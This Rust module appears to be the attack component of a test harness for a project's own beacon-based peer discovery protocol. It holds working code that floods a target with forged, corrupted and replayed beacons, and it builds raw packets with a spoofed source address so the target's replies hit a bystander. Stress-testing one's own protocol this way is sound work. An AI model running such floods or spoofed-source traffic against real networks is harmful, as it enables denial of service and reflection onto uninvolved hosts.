//! Floods of beacons: forged, altered, replayed, and under somebody else's address.

use super::Assault;
use crate::speaker::Speaker;
use socket2::{Domain, Protocol, Socket, Type};
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};

/// Where a beacon says which network, which key, which counter and which signature.
const KEY: usize = 16;
const COUNTER: usize = 56;

/// Beacons that follow the layout, under keys that don't exist and under the honest peer's, with signatures that don't
/// fit, from many addresses on the link.
pub(super) fn forged(assault: &mut Assault) -> io::Result<()> {
    let genuine = catch(assault)?;
    let mut forgeries = Vec::new();
    for number in 0..256 {
        let mut forged = genuine.clone();
        if number % 4 != 0 {
            let key = assault.random_bytes(32);
            put(&mut forged, KEY, &key);
        }
        let start = assault.random_bytes(8);
        put(&mut forged, KEY + 32, &start);
        forgeries.push(forged);
    }
    flood(assault, move |number| {
        let mut forged =
            forgeries.get(number as usize % forgeries.len()).cloned().unwrap_or_default();
        put(&mut forged, COUNTER, &(1_000_000 + number).to_be_bytes());
        forged
    })
}

/// One genuine beacon with a bit turned, cut short, lengthened, of another version, of another network.
pub(super) fn altered(assault: &mut Assault) -> io::Result<()> {
    let genuine = catch(assault)?;
    let mut noise = 1u64;
    flood(assault, move |number| {
        let mut altered = genuine.clone();
        noise = noise.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(number);
        let at = (noise >> 33) as usize % altered.len();
        match number % 5 {
            0 => altered[at] ^= 1 << (noise % 8),
            1 => altered.truncate(at),
            2 => altered.extend_from_slice(&noise.to_be_bytes()),
            3 => altered[4] = 2 + (noise % 250) as u8,
            _ => altered[8 + at % 8] ^= 0x55,
        }
        altered
    })
}

/// One genuine beacon, as it is, from another host's addresses.
pub(super) fn replayed(assault: &mut Assault) -> io::Result<()> {
    let genuine = catch(assault)?;
    flood(assault, move |_| genuine.clone())
}

/// Genuine beacons of ever new identities, sent as if they came from the bystander: what the victim says to that goes
/// there.
pub(super) fn spoofed(assault: &mut Assault) -> io::Result<()> {
    let IpAddr::V4(from) = assault.orders.other.ip() else {
        return Err(io::Error::other("the bystander has no IPv4 address"));
    };
    let IpAddr::V4(to) = assault.orders.to.ip() else {
        return Err(io::Error::other("the victim has no IPv4 address"));
    };
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    raw.set_header_included_v4(true)?;
    let port = assault.orders.ports.first().copied().unwrap_or(8001);
    let mut pace = Pace::new(assault.orders.rate);
    let mut counter = 0;
    while assault.is_on() {
        pace.wait();
        counter += 1;
        let speaker = Speaker::new()?;
        let beacon = speaker.beacon(assault.orders.other.port(), counter, 1);
        let datagram = udp(SocketAddrV4::new(from, port), SocketAddrV4::new(to, port), &beacon);
        raw.send_to(&datagram, &SocketAddr::from((to, port)).into())?;
        assault.count("datagrams");
        assault.add("bytes", datagram.len() as u64);
    }
    Ok(())
}

/// A beacon of some other node: a newcomer's own beacon makes settled nodes answer.
fn catch(assault: &mut Assault) -> io::Result<Vec<u8>> {
    let speaker = Speaker::new()?;
    let socket = Socket::new(Domain::IPV4, Type::DGRAM, None)?;
    socket.set_reuse_address(true)?;
    socket.set_broadcast(true)?;
    socket.bind(&SocketAddr::from((Ipv4Addr::UNSPECIFIED, 8001)).into())?;
    let socket = UdpSocket::from(socket);
    socket.set_read_timeout(Some(Duration::from_millis(200)))?;
    let mut datagram = [0; 600];
    for counter in 1..50 {
        let own = speaker.beacon(0, 1, counter);
        socket.send_to(&own, (Ipv4Addr::BROADCAST, 8001))?;
        while let Ok((length, from)) = socket.recv_from(&mut datagram) {
            let heard = datagram.get(..length).unwrap_or_default();
            // The honest peer's, not the victim's: the victim knows its own.
            let is_other = from.ip() == assault.orders.other.ip();
            if is_other && heard.get(KEY..KEY + 32).is_some_and(|key| key != speaker.key().0) {
                assault.count("caught");
                return Ok(heard.to_vec());
            }
        }
    }
    Err(io::Error::other("no beacon of the honest peer was heard"))
}

/// Sends what `make` gives at the ordered rate, from each address in turn, to each port in turn.
fn flood(assault: &mut Assault, mut make: impl FnMut(u64) -> Vec<u8>) -> io::Result<()> {
    let sockets: Vec<UdpSocket> = assault
        .orders
        .from
        .iter()
        .map(|from| UdpSocket::bind((*from, 0)))
        .collect::<io::Result<_>>()?;
    // Catching took its time.
    assault.until = Instant::now() + Duration::from_secs_f64(assault.orders.seconds);
    let victim = assault.orders.to.ip();
    let ports = assault.orders.ports.clone();
    let mut pace = Pace::new(assault.orders.rate);
    let mut number = 0u64;
    while assault.is_on() {
        pace.wait();
        let datagram = make(number);
        let socket = &sockets[number as usize % sockets.len()];
        let port = ports.get(number as usize % ports.len()).copied().unwrap_or(8001);
        number += 1;
        if socket.send_to(&datagram, (victim, port)).is_ok() {
            assault.count("datagrams");
            assault.add("bytes", 28 + datagram.len() as u64);
        }
    }
    Ok(())
}

fn put(bytes: &mut [u8], at: usize, new: &[u8]) {
    if let Some(old) = bytes.get_mut(at..at + new.len()) {
        old.copy_from_slice(new);
    }
}

/// An IPv4 packet with a UDP datagram; the kernel fills in its checksum, and UDP's may be left out.
fn udp(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let length = (28 + payload.len()) as u16;
    let mut packet = vec![0x45, 0];
    packet.extend_from_slice(&length.to_be_bytes());
    packet.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&to.ip().octets());
    packet.extend_from_slice(&from.port().to_be_bytes());
    packet.extend_from_slice(&to.port().to_be_bytes());
    packet.extend_from_slice(&(length - 20).to_be_bytes());
    packet.extend_from_slice(&[0, 0]);
    packet.extend_from_slice(payload);
    packet
}

/// Keeps to a rate, in bursts of a millisecond.
struct Pace {
    rate: u64,
    began: Instant,
    done: u64,
}

impl Pace {
    fn new(rate: u64) -> Self {
        Self { rate: rate.max(1), began: Instant::now(), done: 0 }
    }

    fn wait(&mut self) {
        let due = (self.began.elapsed().as_secs_f64() * self.rate as f64) as u64;
        if self.done > due {
            let ahead = (self.done - due) as f64 / self.rate as f64;
            std::thread::sleep(Duration::from_secs_f64(ahead.max(0.001)));
        }
        self.done += 1;
    }
}
